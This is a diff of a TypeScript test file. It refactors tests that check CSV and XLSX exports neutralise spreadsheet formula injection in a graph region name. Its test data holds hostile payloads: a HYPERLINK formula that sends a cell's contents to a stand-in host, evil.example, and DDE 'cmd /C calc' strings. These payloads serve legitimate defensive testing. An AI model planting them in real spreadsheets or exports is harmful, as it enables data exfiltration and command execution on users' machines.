@@ -2,30 +2,14 @@
 // CR is quote-prefixed in CSV and a plain text cell in XLSX; real numbers stay numbers. Files are read back.
 import { parse } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import type { Database } from '../../graph/db/database';
+import { beforeAll, describe, expect, it } from 'vitest';
 import { looksLikeFormula, renderTable, type ExportTable } from '../../server/export';
-import { seedDataset } from '../../server/datasets';
-import { openTestDatabase, wipeGraph } from '../helpers/graph';
-import { startTestServer, type TestServer } from '../helpers/server';
-
-let db: Database;
-let server: TestServer;
+import { seededTestServer } from '../helpers/seededServer';
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")';
 const HOSTILE = [HYPERLINK, '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
 
-beforeAll(async () => {
-  db = await openTestDatabase();
-  await wipeGraph(db);
-  await seedDataset(db, 'nantong');
-  server = await startTestServer(db);
-});
-
-afterAll(async () => {
-  await server.close();
-  await db.close();
-});
+const fx = seededTestServer({ datasets: ['nantong'] });
 
 async function readXlsx(bytes: Buffer): Promise<ExcelJS.Worksheet> {
   const workbook = new ExcelJS.Workbook();
@@ -81,13 +65,13 @@ describe('the export helpers', () => {
 describe('a question downloaded with a hostile name in the graph', () => {
   beforeAll(async () => {
     // A county without a co-built park, renamed as an attacker with edit rights (or a crafted import) would.
-    await db.write((tx) =>
+    await fx.db.write((tx) =>
       tx.run("MATCH (r:Region {nameEn: 'Tongzhou District'}) SET r.nameZh = $zh, r.nameEn = $en", { zh: HYPERLINK, en: '@SUM(1+1)' }),
     );
   });
 
   it('CSV: the name arrives quote-prefixed', async () => {
-    const response = await fetch(`${server.baseUrl}/api/questions/counties-without-co-built-park?format=csv`);
+    const response = await fetch(`${fx.baseUrl}/api/questions/counties-without-co-built-park?format=csv`);
     expect(response.status).toBe(200);
     const records: string[][] = parse(Buffer.from(await response.arrayBuffer()), { bom: true });
     const cells = records.flat();
@@ -96,7 +80,7 @@ describe('a question downloaded with a hostile name in the graph', () => {
   });
 
   it('XLSX: the name arrives as text, never as a formula', async () => {
-    const response = await fetch(`${server.baseUrl}/api/questions/counties-without-co-built-park?format=xlsx&lang=en`);
+    const response = await fetch(`${fx.baseUrl}/api/questions/counties-without-co-built-park?format=xlsx&lang=en`);
     const sheet = await readXlsx(Buffer.from(await response.arrayBuffer()));
     const cells: ExcelJS.Cell[] = [];
     sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
